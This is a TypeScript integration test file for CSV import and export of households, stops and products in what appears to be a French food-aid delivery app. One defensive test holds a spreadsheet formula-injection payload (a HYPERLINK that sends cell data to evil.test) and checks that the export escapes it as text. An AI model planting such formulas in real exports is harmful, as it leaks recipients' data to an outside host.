import type { ImportResult } from "@tournee/domain";
import type { ImportReport as ImportPreview } from "../../use-cases/imports/import-errors.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApp, type TestApp, type TestClient } from "../../test-support/test-app.js";
import { buildWorld, PASSWORD, type World } from "../../test-support/world.js";

let app: TestApp;
let world: World;
let coord: TestClient;

beforeAll(async () => {
  app = await startTestApp();
  world = await buildWorld(app.db.prisma);
  coord = await app.client().login(world.users.coordA.email, PASSWORD);
});
afterAll(() => app.close());

const households = (rows: string) => `\uFEFFname;addressLine;postcode;city;latitude;longitude;peopleCount\r\n${rows}`;
const count = () => app.db.prisma.household.count({ where: { organisationId: world.org.groceryA } });

describe("CSV import of households", () => {
  const broken = households('Mme Roche;"3 rue du Four; bât. B";2300;Felletin;45,88;2,17;2\r\nM. Blanc;1 place;23200;Aubusson;north;2,16;x\r\n');

  it("previews every error by line and column, and writes nothing", async () => {
    const before = await count();
    const res = await coord.post<ImportPreview>("/api/imports/households/preview", { organisationId: world.org.groceryA, csv: broken });
    expect(res.status).toBe(200);
    expect(res.body.rowCount).toBe(2);
    expect(res.body.rows[0]!.values.addressLine).toBe("3 rue du Four; bât. B");
    expect(res.body.errors.map((e) => [e.line, e.column, e.code])).toEqual([
      [2, "postcode", "invalid_format"],
      [3, "latitude", "not_a_number"],
      [3, "peopleCount", "not_whole_number"],
    ]);
    expect(await count()).toBe(before);
  });

  it("refuses to import a file with errors and changes nothing", async () => {
    const before = await count();
    const res = await coord.post<{ code: string; errors: unknown[] }>("/api/imports/households", { organisationId: world.org.groceryA, csv: broken });
    expect(res.status).toBe(422);
    expect(res.body.code).toBe("import_invalid");
    expect(res.body.errors).toHaveLength(3);
    expect(await count()).toBe(before);
  });

  it("imports the fixed file in one go, then updates rows named by id from an edited export", async () => {
    const before = await count();
    const fixed = households('Mme Roche;"3 rue du Four; bât. B";23500;Felletin;45,88;2,17;2\r\nM. Blanc;1 place;23200;Aubusson;45,95;2,16;1\r\n');
    const res = await coord.post<ImportResult>("/api/imports/households", { organisationId: world.org.groceryA, csv: fixed });
    expect(res.body).toEqual({ kind: "households", created: 2, updated: 0 });
    expect(await count()).toBe(before + 2);

    const exported = await coord.get<{ csv: string; filename: string }>(`/api/exports/households?organisationId=${world.org.groceryA}`);
    expect(exported.body.filename).toBe("grocery-a-households.csv");
    // French column names and words, as the coordinators read them.
    expect(exported.body.csv.split(/\r?\n/)[0]!.replace("\uFEFF", "")).toBe("identifiant;nom;adresse;code postal;commune;pays;code INSEE;latitude;longitude;indications d'accès;vient à l'arrêt ou livré;arrêt habituel;disponibilités à domicile;personnes;téléphone;joindre par");
    expect(exported.body.csv).toContain("vient à l'arrêt");
    expect(exported.body.csv).not.toMatch(/comes_to_halt|addressLine/);
    const edited = exported.body.csv.replace("Mme Roche", "Mme Roche-Martin");
    const again = await coord.post<ImportResult>("/api/imports/households", { organisationId: world.org.groceryA, csv: edited });
    expect(again.body).toEqual({ kind: "households", created: 0, updated: before + 2 });
    expect(await app.db.prisma.household.count({ where: { name: "Mme Roche-Martin" } })).toBe(1);
  });

  it("reads the usual halt by name, home-drop days and the country; a household needing home drops gets its stop", async () => {
    await app.db.prisma.stop.create({ data: { organisationId: world.org.groceryA, kind: "halt", name: "Plaça Major", city: "Encamp", country: "AD", latitude: 42.53, longitude: 1.58 } });
    const csv = [
      "name;addressLine;postcode;city;country;latitude;longitude;mobility;usualStop;homeAvailability",
      "Sra. Puig;Carrer Major 3;AD200;Encamp;ad;42,53;1,58;comes_to_halt;plaça major;",
      "Sr. Vidal;Carrer Nou 1;AD200;Encamp;AD;42,54;1,59;needs_home_drop;;\"dim 09:00-12:00; mer 14h-16h\"",
      "Sra. Font;Carrer Nou 2;2300;Encamp;AD;42,54;1,59;comes_to_halt;Plaça Menor;lundi",
    ].join("\n");
    const preview = await coord.post<ImportPreview>("/api/imports/households/preview", { organisationId: world.org.groceryA, csv });
    expect(preview.body.errors.map((e) => [e.line, e.column, e.code])).toEqual([
      [4, "homeAvailability", "invalid_format"],
      [4, "postcode", "invalid_format"],
      [4, "usualStop", "unknown_halt"],
    ]);
    expect(preview.body.errors[1]!.params.hint).toMatch(/Andorran/);
    const fixed = csv.split("\n").slice(0, 3).join("\n");
    expect((await coord.post<ImportResult>("/api/imports/households", { organisationId: world.org.groceryA, csv: fixed })).body.created).toBe(2);
    const puig = await app.db.prisma.household.findFirstOrThrow({ where: { name: "Sra. Puig" }, include: { usualStop: true, homeStop: true } });
    expect([puig.country, puig.postcode, puig.usualStop?.name, puig.homeStop]).toEqual(["AD", "AD200", "Plaça Major", null]);
    const vidal = await app.db.prisma.household.findFirstOrThrow({ where: { name: "Sr. Vidal" }, include: { homeStop: true } });
    expect(vidal.homeAvailability).toEqual([{ weekday: 7, from: 540, to: 720 }, { weekday: 3, from: 840, to: 960 }]);
    expect(vidal.homeStop).toMatchObject({ kind: "home_drop", latitude: 42.54, longitude: 1.59, country: "AD", archivedAt: null });
    const exported = await coord.get<{ csv: string }>(`/api/exports/households?organisationId=${world.org.groceryA}`);
    expect(exported.body.csv).toContain("dim 09:00-12:00; mer 14:00-16:00");
    expect(exported.body.csv).toContain("Plaça Major");
  });

  it("exports a household named like a formula as text, and imports it back unchanged", async () => {
    const name = '=HYPERLINK("http://evil.test/?d="&B2;"Voir")';
    await app.db.prisma.household.create({ data: { organisationId: world.org.groceryA, name, addressLine: "@chemin", postcode: "23000", city: "Guéret", latitude: 46.17, longitude: -1.87 } });
    const exported = await coord.get<{ csv: string }>(`/api/exports/households?organisationId=${world.org.groceryA}`);
    const line = exported.body.csv.split("\r\n").find((l) => l.includes("HYPERLINK"))!;
    expect(line).toMatch(/^[^;]*;"'=HYPERLINK\(""http:\/\/evil\.test/);
    expect(line).toContain(";'@chemin;");
    expect(line).toContain(";-1,87;");
    const again = await coord.post<ImportResult>("/api/imports/households", { organisationId: world.org.groceryA, csv: exported.body.csv });
    expect(again.status).toBe(200);
    expect(await app.db.prisma.household.count({ where: { name, addressLine: "@chemin" } })).toBe(1);
  });

  it("refuses a row naming a halt of another organisation and writes none of the rows", async () => {
    const before = await app.db.prisma.stop.count();
    const ok = await coord.post<ImportResult>("/api/imports/stops", { organisationId: world.org.groceryA, csv: "name,city,latitude,longitude\nLavoir,Ahun,46.08,2.04\n" });
    expect(ok.body.created).toBe(1);
    const foreignId = (await app.db.prisma.stop.create({ data: { organisationId: world.org.groceryB, kind: "halt", name: "B", city: "B", latitude: 46, longitude: 2 } })).id;
    const res = await coord.post<{ code: string }>("/api/imports/stops", { organisationId: world.org.groceryA, csv: `id,name,city,latitude,longitude\n,Église,Ahun,46.08,2.04\n${foreignId},Volé,Ahun,46,2\n` });
    expect(res.status).toBe(422);
    expect(await app.db.prisma.stop.count()).toBe(before + 2);
    const preview = await coord.post<ImportPreview>("/api/imports/stops/preview", { organisationId: world.org.groceryA, csv: `id,name,city,latitude,longitude\n${foreignId},Volé,Ahun,46,2\n` });
    expect(preview.body.errors).toEqual([expect.objectContaining({ line: 2, column: "id", code: "unknown_id", params: { kind: "halt" } })]);
  });

  it("reports unknown and missing columns on line 1", async () => {
    const res = await coord.post<ImportPreview>("/api/imports/products/preview", { organisationId: world.org.groceryA, csv: "sku;libellé\nA1;Riz\n" });
    expect(res.body.errors.filter((e) => e.line === 1).map((e) => e.column)).toEqual(expect.arrayContaining(["libellé", "nom", "rayon", "prix de référence (€)"]));
  });

  it("upserts products by SKU", async () => {
    const csv = "sku;name;shelf;unit;kind;compartment;referencePriceCents\nRIZ1;Riz long 1 kg;Épicerie salée;paquet;grocery;ambient;189\n";
    expect((await coord.post<ImportResult>("/api/imports/products", { organisationId: world.org.groceryA, csv })).body.created).toBe(1);
    const again = await coord.post<ImportResult>("/api/imports/products", { organisationId: world.org.groceryA, csv: csv.replace("189", "199") });
    expect(again.body).toEqual({ kind: "products", created: 0, updated: 1 });
  });
});
